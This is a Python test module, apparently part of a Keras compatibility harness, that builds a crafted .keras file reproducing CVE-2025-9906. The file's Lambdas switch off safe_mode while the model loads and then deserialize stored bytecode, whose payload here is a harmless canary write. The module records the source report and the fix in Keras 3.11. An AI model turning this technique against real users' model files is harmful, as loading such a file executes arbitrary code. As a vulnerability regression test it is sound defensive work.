"""A config that turns safe_mode off from inside the load, then deserializes a stored lambda (CVE-2025-9906).

keras.config.enable_unsafe_deserialization() sets one global, "safe_mode_saving", to False. A Lambda
naming that setter (keras.src.backend.common.global_state.set_global_attribute; a Lambda passes its input
first, which enable_unsafe_deserialization does not take) is called while the model loads; a second
Lambda, named keras.saving.deserialize_keras_object, then deserializes a Sequential whose Lambda is
stored bytecode, and safe_mode no longer stops it. Keras 3.11 allows only KerasSaveable classes from
module paths, and refuses enable_unsafe_deserialization by name. A Keras 2 config has no node keyword
arguments.
"""
import numpy as np
import tensorflow as tf

from runner.harness import crafting

keras = tf.keras

SOURCE = "https://github.com/io-no/CVE-Reports/issues/5"
CLAIM = "A config.json can call keras.config.enable_unsafe_deserialization and then load Lambda bytecode under safe_mode=True (fixed in Keras 3.11)."
FIX = "Upgrade to Keras >= 3.11; load only files you trust, in a sandbox (keras-compat check --sandbox)."
CANARY = True
# What a vector does depends on the Keras that loads it, not the one that wrote it: each env loads the file
# it crafted itself (the vector table), not other envs' copies.
PAIRS = "same"

x = np.linspace(-1.0, 1.0, 12, dtype="float32").reshape(3, 4)
y = x * 3.0


def build():
    inputs = keras.Input(shape=(4,))
    hidden = keras.layers.Dense(4, name="dense")(inputs)
    return keras.Model(inputs, keras.layers.Dense(4, name="out")(hidden))


def craft(fmt, path, model):
    crafting.require_zip(fmt, path, "the vector is an entry of a .keras zip's config.json")
    keras3 = crafting.require_keras3("Lambdas called with keyword arguments of their nodes")
    stored = keras3.Sequential([keras3.Input(shape=(4,)), keras3.layers.Lambda(lambda v: [
        __import__("os").environ.get("KC_CANARY")
        and open(__import__("os").environ["KC_CANARY"], "a").write(
            __import__("os").environ.get("KC_CANARY_PHASE", "?") + "\n"),
        v,
    ][1])])
    switch = crafting.lambda_calling("kc_switch", "keras.src.backend.common.global_state", "set_global_attribute",
                                     "safe_mode_saving", {"value": False})
    inner = crafting.lambda_calling("kc_inner", "keras.saving", "deserialize_keras_object",
                                    crafting.serialize(stored), {})
    crafting.add_layers(path, [switch, inner])


# %% train

# %% serve

# %% rebuild
